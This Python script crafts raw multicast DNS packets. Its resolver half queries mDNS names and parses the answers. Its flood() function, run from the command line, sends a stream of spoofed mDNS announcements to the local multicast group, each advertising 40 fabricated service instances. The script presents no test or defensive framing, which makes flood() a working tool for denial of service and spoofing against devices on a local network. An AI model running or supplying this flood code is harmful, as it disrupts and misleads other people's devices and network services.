"""A question by multicast DNS as any small resolver would ask it, made of bare bytes."""

import json
import socket
import struct
import sys
import time

GROUP = ("224.0.0.251", 5353)


def question(name: str, kind: int = 1) -> bytes:
    """A packet that asks for one record of the internet class."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!6H", 0x1234, 0, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def pointers(service: str, instances: list[str], ttl: int = 4500) -> bytes:
    """A packet that says that these are there."""
    owner = b"".join(bytes([len(part)]) + part.encode() for part in service.strip(".").split("."))
    packet = struct.pack("!6H", 0, 0x8400, 0, len(instances), 0, 0)
    for number, label in enumerate(instances):
        name = owner + b"\0" if not number else b"\xc0\x0c"
        target = bytes([len(label)]) + label.encode() + b"\xc0\x0c"
        packet += name + struct.pack("!2HIH", 12, 1, ttl, len(target)) + target
    return packet


def resolve(name: str, source: str, timeout_s: float = 3.0) -> list[str]:
    """Addresses of a name, asked from an ordinary port (RFC 6762 section 6.7)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(source))
        sock.bind((source, 0))
        deadline = time.monotonic() + timeout_s
        while (left := deadline - time.monotonic()) > 0:
            sock.sendto(question(name), GROUP)
            sock.settimeout(min(0.5, left))
            try:
                return _addresses(sock.recv(9000))
            except TimeoutError:
                continue
    return []


def _addresses(packet: bytes) -> list[str]:
    questions, answers = struct.unpack("!2H", packet[4:8])
    at, found = 12, []
    for _ in range(questions):
        at = _skip(packet, at) + 4
    for _ in range(answers):
        at = _skip(packet, at)
        kind, _, _, length = struct.unpack("!2HIH", packet[at : at + 10])
        if kind == 1:
            found.append(socket.inet_ntoa(packet[at + 10 : at + 10 + length]))
        at += 10 + length
    return found


def _skip(packet: bytes, at: int) -> int:
    while packet[at]:
        if packet[at] >= 0xC0:
            return at + 2
        at += packet[at] + 1
    return at + 1


def flood(source: str, service: str, packets: int) -> None:
    """Say that thousands of nodes are there."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(source))
        sock.bind((source, 0))
        for number in range(packets):
            names = [f"{number * 40 + n:016x}" for n in range(40)]
            sock.sendto(pointers(service, names), GROUP)


if __name__ == "__main__":
    if sys.argv[1] == "resolve":
        print(json.dumps(resolve(*sys.argv[2:])))
    else:
        flood(sys.argv[2], sys.argv[3], int(sys.argv[4]))
